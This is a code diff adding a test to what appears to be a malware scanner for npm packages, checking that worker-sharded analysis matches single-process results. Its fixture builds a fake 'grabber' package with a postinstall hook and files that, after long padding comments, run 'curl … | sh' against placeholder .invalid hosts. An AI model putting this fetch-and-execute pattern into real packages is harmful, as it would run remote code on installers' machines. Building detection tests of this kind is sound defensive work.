@@ -42,6 +42,29 @@ describe.skipIf(!fs.existsSync(compiled))('AnalysisPool (compiled)', () => {
     }
   });
 
+  test('a package over the shard threshold is analyzed by both workers from shared memory, with the same result', async () => {
+    const { AnalysisPool } = await loadPool();
+    const pool = AnalysisPool.create({ size: 2 })!;
+    try {
+      const bundle = (i: number) => `/* ${'pad '.repeat(500 * (i + 1))} */\nrequire('child_process').exec('curl -s https://p${i}.invalid/x | sh');\n`;
+      const big: Record<string, string> = { ...stealer, 'package.json': JSON.stringify({ name: 'grabber', version: '1.0.0', main: 'd0.js', scripts: { postinstall: 'node s.js' } }) };
+      for (let i = 0; i < 6; i++) big[`d${i}.js`] = bundle(i);
+      const engine = { ...(await import('../src/engine/analyze.js')).DEFAULT_ENGINE_OPTIONS, maxRetainedBytes: 2048 };
+      const data = await packTarball(big);
+      const local = await analyzeTarball({ data: Buffer.from(data), spec: 'g', source: 'file' }, { engine });
+      // Threshold 0: every package is sharded.
+      const sharded = await pool.analyze({ data: Buffer.from(data), spec: 'g', source: 'file' }, engine, 0);
+      expect(sharded.verdict).toBe('malicious');
+      expect(sharded.score).toBe(local.score);
+      expect(sharded.reasons).toEqual(local.reasons);
+      const keyOf = (f: { rule: string; file?: string; line?: number; message: string }) => `${f.rule}:${f.file}:${f.line}:${f.message}`;
+      expect(sharded.findings.map(keyOf).sort()).toEqual(local.findings.map(keyOf).sort());
+      expect(sharded.findings.filter((f) => /^d\d\.js$/.test(f.file ?? '')).length).toBeGreaterThanOrEqual(6);
+    } finally {
+      await pool.close();
+    }
+  });
+
   test('a worker that runs out of memory fails only its package; a fresh worker takes the next one', async () => {
     const { AnalysisPool } = await loadPool();
     const pool = AnalysisPool.create({ size: 2, heapMb: 64 })!;
